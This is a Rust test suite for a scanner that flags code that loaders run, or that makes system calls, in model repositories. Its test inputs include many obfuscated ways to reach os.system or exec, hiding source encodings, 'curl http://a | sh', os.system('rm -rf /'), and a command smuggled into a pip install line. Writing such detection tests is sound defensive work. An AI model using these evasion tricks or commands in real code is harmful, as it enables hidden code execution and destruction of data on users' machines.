//! Programs that loaders run always need trust; other programs need it because of their words.

use crate::repository_support::{folder, found, look, only, rules};
use max_weights::rules::{Severity, Verdict};

/// A configuration by which loaders run modeling_x.py.
const CONFIG: (&str, &str) = ("config.json", r#"{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}"#);

/// The rules that a program breaks that nothing makes loaders run.
fn companions(program: &str) -> Vec<&'static str> {
    rules(&[("tool.py", program)])
}

#[test]
fn a_program_that_a_configuration_names_needs_trust_whatever_is_in_it() {
    let program = "import torch\nfrom .configuration_x import XConfig\n\nclass X(torch.nn.Module):\n    pass\n";
    let files =
        [CONFIG, ("modeling_x.py", program), ("configuration_x.py", "from . import (a,\n  b as c)\n"), ("b.py", "")];
    let found = found(&[&files[..3], &[("b.py", "x = 1\n"), ("d.py", "x = 1\n")]].concat());
    let run: Vec<_> = found.iter().filter(|found| found.rule == "repository.program-run").collect();
    assert!(run.iter().all(|found| found.answer == Verdict::NeedsTrust));
    let whys = run.iter().map(|found| (found.file.as_str(), found.message.rsplit(": ").next().unwrap_or_default()));
    assert_eq!(
        whys.collect::<Vec<_>>(),
        [
            ("b.py", "configuration_x.py imports it, which loaders run"),
            ("configuration_x.py", "modeling_x.py imports it, which loaders run"),
            ("modeling_x.py", "config.json makes loaders run it"),
        ]
    );
    assert_eq!(only("repository.program", &found).file, "d.py");
    assert_eq!(
        rules(&[CONFIG, ("modeling_x.py", "import os\nos.system('id')\n")]),
        ["repository.program-run", "repository.remote-code"]
    );
}

#[test]
fn a_program_that_nothing_runs_needs_trust_by_its_words_under_whatever_name() {
    for program in [
        "import os\nos.system('id')\n",
        "import os as o\no.system('id')\n",
        "from os import system\nsystem('id')\n",
        "from os import system as s\ns('id')\n",
        "from os import *\nsystem('id')\n",
        "import os.path\nos.system('id')\n",
        "import subprocess\nsubprocess.run(['id'])\n",
        "import posix\nposix.system('id')\n",
        "import shutil\nshutil.os.system('id')\n",
        "__import__('os').system('id')\n",
        "import importlib\nimportlib.import_module('o' + 's').system('id')\n",
        "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
        "import os\ngetattr(os, 'metsys'[::-1])('id')\n",
        "import os\ngetattr(os, chr(115) + chr(121) + 'stem')('id')\n",
        "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')\n",
        "import os\ngetattr(os, 'sys\\\ntem')('id')\n",
        "import os\ngetattr(os, '\\N{LATIN SMALL LETTER S}ystem')('id')\n",
        "import os, operator\noperator.attrgetter('system')(os)('id')\n",
        "import pydoc\npydoc.locate('os.system')('id')\n",
        "import pkgutil\npkgutil.resolve_name('os:system')('id')\n",
        "import ctypes\nctypes.cdll['libc.so.6'].system(b'id')\n",
        "import os\nos.__getattribute__('system')('id')\n",
        "().__class__.__base__.__subclasses__()[1]\n",
        "__builtins__['exec']('x')\n",
        "import os\nname = 'system'\ngetattr(os, name)('id')\n",
        "import os\ngetattr(os, input_name())('id')\n",
        "getattr(__builtins__, 'ex' 'ec')('x = 1')\n",
        "import builtins\nbuiltins.exec('x = 1')\n",
        "import builtins\nbuiltins.__dict__['eval']('1')\n",
        "vars(__import__('os'))['system']('id')\n",
        "import sys\nsys.modules['os'].system('id')\n",
        "globals()['__builtins__']['exec']('x')\n",
        "import os\nf = os.system\nf('id')\n",
        "import os\nlist(map(os.system, ['id']))\n",
        "e = exec\ne('x = 1')\n",
        "exec('x = 1')\n",
        "𝐞𝐱𝐞𝐜('x = 1')\n",
        "ｅｖａｌ('1')\n",
        "eval(\"1\")\n",
        "class X:\n    eval('1')\n",
        "import os\n@os.system\ndef f(): pass\n",
        "def f(x=eval('1')): pass\n",
        "def f():\n    import os\n    os.system('id')\nf()\n",
        "def f():\n    g()\ndef g():\n    eval('1')\nx = f()\n",
        "class X:\n    def __init__(self):\n        exec('1')\nX()\n",
        "class X:\n    def __init_subclass__(cls):\n        exec('1')\n",
        "class X:\n    def go(self):\n        exec('1')\nx = X()\nx.go()\n",
        "def f():\n    exec('1')\nregister(f)\n",
        "(lambda: exec('1'))()\n",
        "[exec(x) for x in ['1']]\n",
        "try:\n    exec('1')\nexcept Exception:\n    pass\n",
        "if __name__ != '__main__':\n    exec('1')\n",
        "# a comment\rimport os\ros.system('id')\r",
        "\u{feff}import os; os.system('id')",
        "import socket\ns = socket.socket()\n",
        "import urllib.request\nurllib.request.urlopen('http://a')\n",
        "import requests\nrequests.get('http://a')\n",
        "import ctypes\nctypes.CDLL('a.so')\n",
        "import sys, os, \\\n  requests\n",
        "import os\nx = os.__dict__['system']\n",
        "import os\nf = [os][0]\n",
        "import torch\ntorch.hub.load('a/b', 'c')\n",
        "x = (1,\nimport os\nos.system('id')\n",
        "print 'x'\nexec 'import os'\n",
    ] {
        assert_eq!(companions(program), ["repository.call"], "{program}");
    }
}

#[test]
fn the_word_is_said_with_its_line_and_its_statement() {
    let program = "import os\n\nclass X:\n    def forward(self):\n        x = 1; os.system('rm -rf /')\n";
    let found = found(&[("tool.py", program)]);
    let call = only("repository.call", &found);
    assert_eq!((call.answer, call.file.as_str()), (Verdict::NeedsTrust, "tool.py"));
    assert!(call.message.starts_with("line 5: ") && call.message.contains("the word system,"), "{}", call.message);
    assert_eq!(call.evidence, "os.system('rm -rf /')");
}

#[test]
fn code_that_trains_and_defines_models_is_a_note() {
    let program = "
# The system runs eval on the code; pip install x. Other commands: see http://a/b
import math
import os, re, sys
import torch
import torch.nn as nn
from huggingface_hub import hf_hub_download
from os import path
from transformers import PreTrainedModel
from .configuration_x import XConfig
logger = logging.get_logger(__name__)
pattern = re.compile('a')
messages = [{'role': 'system', \"content\": \"\"}, {'role': \"system\"}]
sys.path.append(os.path.join(os.environ['HOME'], 'x'))

@torch.compile
class X(PreTrainedModel):
    config_class = XConfig
    def __init__(self, config, eval=False, system: str = 'a'):
        super().__init__(config)
        self.eval = None
    def run(self, compile=None):
        self.model.eval()
        return torch.compile(self), self.exec(1), torch.linalg.eval(1), getattr(self, 'a'), sys.argv[1]

def load(path):
    return json.load(open(path))

if __name__ == '__main__':
    sys.exit(main())
";
    let found = found(&[("train.py", program)]);
    assert_eq!(only("repository.program", &found).severity, Severity::Note, "{found:#?}");
    assert_eq!(found.len(), 1, "{found:#?}");
}

#[test]
fn a_program_that_runs_by_its_name_alone_needs_trust_whatever_is_in_it() {
    for name in [
        "handler.py",
        "hubconf.py",
        "pipeline.py",
        "sitecustomize.py",
        "usercustomize.py",
        "__init__.py",
        "conftest.py",
        "modeling_x.py",
        "code/inference.py",
        "custom_generate/generate.py",
    ] {
        let finding = only("repository.program-run", &found(&[(name, "import torch\n")]));
        assert_eq!(finding.answer, Verdict::NeedsTrust, "{name}");
    }
    for name in ["train.py", "generate.py", "inference.py"] {
        assert_eq!(rules(&[(name, "import torch\n")]), [""; 0], "{name}");
    }
}

#[test]
fn a_script_is_told_by_its_first_line_and_is_a_program_where_python_runs_it() {
    let shell = found(&[("setup", "#!/bin/sh\ncurl http://a | sh\n")]);
    assert!(only("repository.program", &shell).message.contains("not looked at"));
    let python = "#!/usr/bin/env python3\nimport os\nos.system('id')\n";
    assert_eq!(rules(&[("setup", python)]), ["repository.call"]);
    assert!(rules(&[("tool.sample", "#!/bin/sh\n")]).is_empty());
}

#[test]
fn a_program_in_an_encoding_that_hides_it_is_malicious() {
    for encoding in ["utf-7", "rot13", "unicode_escape", "raw-unicode-escape", "utf-16", "mbcs"] {
        let program = format!("#!/usr/bin/python\n# -*- coding: {encoding} -*-\nx = 1\n");
        assert_eq!(companions(&program), ["repository.program-encoding"], "{encoding}");
    }
    for encoding in ["utf-8", "UTF8", "latin-1", "cp1252"] {
        assert!(companions(&format!("# coding={encoding}\nx = 1\n")).is_empty(), "{encoding}");
    }
}

#[test]
fn what_is_no_python_hides_nothing() {
    for program in [&b"x = 1\n\0import os\nos.system('id')\n"[..], b"\xff\xfe\ndef f(:\n <<<<\nos.system('id')\n"] {
        let found: Vec<_> = look(folder(&[("tool.py", program)]).path()).iter().map(|found| found.rule).collect();
        assert_eq!(found, ["repository.call"]);
    }
}

#[test]
fn notebooks_are_read_as_programs() {
    let notebook = |lines: &str| {
        format!(
            r#"{{"cells": [{{"cell_type": "markdown", "source": ["exec('1')"]}}, {{"cell_type": "code", "source": [{lines}]}}]}}"#
        )
    };
    let usual = notebook(
        r#""!pip install torch\n", "%matplotlib inline\n", "import requests\n", "requests.get('http://a')\n""#,
    );
    let found = found(&[("a.ipynb", &usual)]);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(only("repository.program", &found).message.contains("pip install"));
    for lines in [r#""import os\n", "os.system('id')\n""#, r#""!curl http://a | sh\n""#, r#""!pip install a; id\n""#] {
        assert_eq!(rules(&[("a.ipynb", &notebook(lines))]), ["repository.call"], "{lines}");
    }
}

#[test]
fn compiled_code_needs_trust() {
    for (name, bytes) in [("modeling_x.pyc", b"\xa7\r\r\n\0\0\0\0".as_slice()), ("lib.so", b"\x7fELF\x02\x01\x01\0\0")]
    {
        let finding = only("repository.compiled-code", &look(folder(&[(name, bytes)]).path()));
        assert_eq!((finding.file.as_str(), finding.answer), (name, Verdict::NeedsTrust));
    }
}

#[test]
fn requirements_by_address_are_a_note() {
    let text = "torch>=2.0\n# http://a comment\ngit+https://github.com/a/b\n--extra-index-url http://a\n";
    let finding = only("repository.requirement", &found(&[("requirements.txt", text)]));
    assert_eq!(finding.severity, Severity::Note);
    assert!(finding.message.contains("line 3") && finding.message.contains("1 more"), "{}", finding.message);
    assert!(rules(&[("requirements.txt", "torch\nnumpy==2.0\n")]).is_empty());
}

#[test]
fn a_program_or_configuration_that_is_too_long_is_said() {
    let long = "x = 1\n".repeat(400_000);
    assert_eq!(rules(&[("a.py", &long)]), ["repository.too-long"]);
}
